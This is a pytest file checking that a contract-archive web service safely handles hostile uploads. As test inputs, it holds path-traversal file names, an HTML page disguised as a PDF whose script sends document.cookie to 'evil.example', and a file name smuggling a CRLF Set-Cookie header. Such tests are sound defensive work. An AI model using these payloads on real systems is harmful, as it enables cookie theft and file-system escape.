"""Hostile uploads: path traversal in file names, a web page posing as a PDF, odd names; nothing escapes the store."""

from __future__ import annotations

from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from archive.settings import Settings
from tests.web.conftest import build_docx

DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def stored_files(settings: Settings) -> set[Path]:
    return {path for path in settings.resolved_blob_dir.rglob("*") if path.is_file()}


@pytest.mark.parametrize(
    "name",
    ["../../../../tmp/contract-archive-escape.docx", "..\\..\\contract-archive-escape.docx", "/etc/cron.d/evil.docx"],
)
def test_traversal_name_stays_a_name(client: TestClient, settings: Settings, name: str):
    if settings.blob_store != "local":
        pytest.skip("the S3 store has no directories to escape")
    body = build_docx(["采购合同", "第一条 标的"])

    response = client.post("/api/documents", files={"file": (name, body, DOCX_TYPE)})

    assert response.status_code == 201, response.text
    assert not Path("/tmp/contract-archive-escape.docx").exists()
    blob_dir = settings.resolved_blob_dir.resolve()
    assert all(path.resolve().is_relative_to(blob_dir) for path in stored_files(settings))
    version_id = response.json()["results"][0]["document_version_id"]
    download = client.get(f"/api/versions/{version_id}/download")
    disposition = download.headers["content-disposition"]
    assert disposition.startswith("attachment;")
    # The plain filename= part carries no path separator a browser could act on.
    plain = disposition.split('filename="', 1)[1].split('"', 1)[0]
    assert "/" not in plain
    assert "\\" not in plain


def test_web_page_posing_as_pdf_rejected(client: TestClient):
    page = b"<html><body><script>document.location='https://evil.example/'+document.cookie</script></body></html>"

    response = client.post("/api/documents", files={"file": ("合同.pdf", page, "application/pdf")})

    assert response.status_code == 422
    result = response.json()["results"][0]
    assert result["status"] == "failed"
    assert "合同.pdf" in result["file"]
    assert client.get("/api/contracts").json()["total"] == 0


def test_download_never_rendered_inline(client: TestClient):
    response = client.post(
        "/api/documents", files={"file": ("<b>名</b>.docx", build_docx(["采购合同", "第一条 标的"]), DOCX_TYPE)}
    )
    version_id = response.json()["results"][0]["document_version_id"]

    download = client.get(f"/api/versions/{version_id}/download", follow_redirects=False)

    if download.status_code == 307:
        # The S3 store hands out a signed link whose response is an attachment too.
        assert "response-content-disposition=attachment" in download.headers["location"]
    else:
        assert download.headers["content-disposition"].startswith("attachment;")
    assert download.headers["x-content-type-options"] == "nosniff"
    assert download.headers["content-security-policy"].startswith("default-src 'self'")


def test_control_characters_in_name(client: TestClient):
    response = client.post(
        "/api/documents", files={"file": ("合同\r\nSet-Cookie: x=1.docx", build_docx(["采购合同"]), DOCX_TYPE)}
    )

    assert response.status_code in (201, 422), response.text
    if response.status_code == 201:
        version_id = response.json()["results"][0]["document_version_id"]
        download = client.get(f"/api/versions/{version_id}/download")
        assert "x=1" not in download.headers.get("set-cookie", "")
